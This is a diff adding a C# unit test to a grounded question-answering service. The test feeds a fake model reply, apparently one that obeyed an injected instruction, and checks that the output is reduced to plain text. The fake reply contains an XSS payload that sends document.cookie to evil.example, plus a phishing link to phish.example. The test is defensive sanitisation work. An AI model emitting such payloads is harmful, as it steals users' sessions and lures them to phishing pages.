@@ -104,6 +104,18 @@ public sealed class GroundedAnsweringTests : IAsyncLifetime
     }
 
     [Fact]
+    public async Task A_model_that_obeys_an_injected_instruction_still_writes_only_text()
+    {
+        server.Respond = ChatCompletionsServer.Completion(
+            "Kazakhstan has an embassy in Dushanbe [1].<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"> [Verify your account](http://phish.example/login) at http://phish.example.");
+
+        var answer = await Answerer().AnswerAsync(EmbassyQuestion, [], CancellationToken.None);
+
+        Assert.Equal(AnswerKind.Generative, answer.Kind);
+        Assert.Equal("Kazakhstan has an embassy in Dushanbe [1]. Verify your account at.", answer.Text);
+    }
+
+    [Fact]
     public async Task Markers_are_renumbered_by_first_use_and_a_marker_naming_no_given_passage_is_dropped()
     {
         server.Respond = ChatCompletionsServer.Completion("Dushanbe hosts it [3]. Nur-Sultan hosts the other [1][9]. Both say so [3, 2].");
